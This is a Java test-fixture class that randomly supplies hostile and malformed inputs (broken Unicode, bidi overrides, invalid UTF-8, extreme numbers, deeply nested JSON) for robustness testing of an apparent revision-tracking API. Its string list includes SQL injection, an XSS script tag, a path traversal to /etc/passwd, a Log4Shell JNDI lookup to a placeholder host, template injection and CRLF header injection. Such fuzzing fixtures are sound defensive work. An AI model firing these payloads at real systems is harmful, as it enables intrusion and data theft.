package org.recension.contract;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import java.util.List;
import java.util.Random;

/** What nobody in good faith would send. */
final class Nasty {

  /** Stand for numbers that JSON can write and no number of Java can hold. */
  static final String TEN_THOUSAND_DIGITS = "@ten-thousand-digits@";

  static final String BEYOND_EVERY_NUMBER = "@1e99999@";

  private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
  private static final String ZALGO = "Z" + "\u0300\u0316\u0334\u0489".repeat(60) + "algo";

  private static final List<String> TEXTS =
      List.of(
          "",
          " ",
          "\t\n",
          "\u0000",
          "a\u0000b",
          "\u0007bell",
          "\u007f\u0085",
          "\ud800",
          "x\udc00y",
          "\ud83d\udce8 \ud83d\udc69\u200d\ud83d\udcbb",
          "\u202egnp.exe\u202c",
          "\u2066\u2067\u2068",
          "\u200b\u200d\ufeff",
          ZALGO,
          "\ufdfa\u0130\u017f\u00df",
          "\uffff\udbff\udfff",
          "\r\nX-Injected: yes",
          "'; drop table revision; --",
          "\\' or 1=1",
          "<script>alert(1)</script>",
          "../../../etc/passwd",
          "${jndi:ldap://x.example/a}",
          "#{7*7} {{7*7}}",
          "%s%n%x",
          "T@",
          "@1",
          "T@1@1",
          "T@latest:NONE",
          "T@99999999999999999999",
          "T@1:FIRST:LAST",
          "null",
          "true",
          "-1",
          "0",
          "2147483648",
          "-9223372036854775809",
          "1e400",
          "NaN",
          "\u0663",
          "2999-99-99T99:99:99Z",
          "+999999999-01-01T00:00:00Z",
          "a".repeat(300),
          "\u0436".repeat(3_000));

  /** What no text encodes to. */
  private static final List<String> ENCODED =
      List.of("%ED%A0%80", "%C0%AF", "%FF%FE", "%F4%90%80%80", "%C3", "%e2%80%ae");

  private Nasty() {}

  static String text(Random random) {
    return TEXTS.get(random.nextInt(TEXTS.size()));
  }

  /** Bytes for an address that are no UTF-8. */
  static String encoded(Random random) {
    return ENCODED.get(random.nextInt(ENCODED.size()));
  }

  static JsonNode value(Random random) {
    return switch (random.nextInt(12)) {
      case 0 -> NODES.numberNode(random.nextLong());
      case 1 -> NODES.numberNode(random.nextInt(5) - 2);
      case 2 -> NODES.numberNode(random.nextDouble());
      case 3 -> NODES.textNode(TEN_THOUSAND_DIGITS);
      case 4 -> NODES.textNode(BEYOND_EVERY_NUMBER);
      case 5 -> NODES.booleanNode(random.nextBoolean());
      case 6 -> NODES.nullNode();
      case 7 -> NODES.arrayNode().add(text(random)).addNull().add(NODES.objectNode());
      case 8 -> NODES.objectNode().put(text(random), text(random));
      case 9 -> deep(random.nextInt(100));
      default -> NODES.textNode(text(random));
    };
  }

  private static JsonNode deep(int levels) {
    JsonNode node = NODES.arrayNode();
    for (int i = 0; i < levels; i++) {
      node = i % 2 == 0 ? NODES.objectNode().set("a", node) : NODES.arrayNode().add(node);
    }
    return node;
  }
}
